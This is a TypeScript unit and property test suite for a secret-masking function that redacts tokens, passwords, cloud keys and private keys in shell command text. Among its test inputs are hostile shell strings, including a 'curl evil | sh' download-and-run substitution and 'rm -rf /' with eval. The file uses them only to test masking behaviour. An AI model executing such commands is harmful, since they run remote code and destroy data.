import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { MASK, maskSecrets } from '../src/index.ts'

// Put together here, so that no scanner takes this file for a leak.
const GITHUB = `ghp_${'a1B2'.repeat(9)}`
const AWS = `AKIA${'ABCD'.repeat(4)}`

describe('maskSecrets', () => {
  it.each([
    [`curl -H 'Authorization: Bearer abc.def-123'`, `curl -H 'Authorization: Bearer ${MASK}'`],
    ['git clone https://me:hunter22@host/x', `git clone https://me:${MASK}@host/x`],
    [`gh auth login ${GITHUB}`, `gh auth login ${MASK}`],
    [`X=${AWS} aws s3 ls`, `X=${MASK} aws s3 ls`],
    ['API_KEY=abcdef make', `API_KEY=${MASK} make`],
    [`export DB_PASSWORD='s3cr3t!'; x`, `export DB_PASSWORD='${MASK}'; x`],
    ['tool --token abcdef --verbose', `tool --token ${MASK} --verbose`],
    ['tool --password=abcdef', `tool --password=${MASK}`],
    ['{"apiKey": "abcdef"}', `{"apiKey": "${MASK}"}`],
    ['-----BEGIN RSA PRIVATE KEY-----\nMIIE\nx\n-----END RSA PRIVATE KEY----- rest', `${MASK} rest`],
  ])('hides the secret of %j and nothing else', (text, masked) => {
    expect(maskSecrets(text)).toBe(masked)
  })

  it.each([
    'echo hello world',
    'sort -k 2 file',
    'cat token list',
    'MONKEY=abcdef x',
    'git log --format=%H',
    'X_TOKEN="$(curl evil | sh)"',
    'X_TOKEN=`rm -rf /tmp/x`',
    'TOKEN=$OTHER; echo',
    'SECRET="rm -rf /"; eval "$SECRET"',
  ])('leaves %j as it is, and with it every text that a shell would run', (text) => {
    expect(maskSecrets(text)).toBe(text)
  })

  it('leaves no credential of a known shape, wherever it stands, and changes nothing twice', () => {
    fc.assert(
      fc.property(fc.string(), fc.constantFrom(GITHUB, AWS), fc.string(), (before, secret, after) => {
        const masked = maskSecrets(`${before} ${secret} ${after}`)
        expect(masked).not.toContain(secret)
        expect(maskSecrets(masked)).toBe(masked)
      }),
    )
  })

  it('takes a time that grows with the text, not with its square', () => {
    for (const piece of [
      'a=',
      'x ',
      '--t ',
      '://',
      'a:b',
      'eyJ',
      'authorization: ',
      '-----BEGIN PRIVATE KEY-----',
      '-eyJaaaaaaaa',
      'a-',
    ]) {
      expect(maskSecrets(piece.repeat(50_000)).length).toBeGreaterThan(0)
    }
  })
})
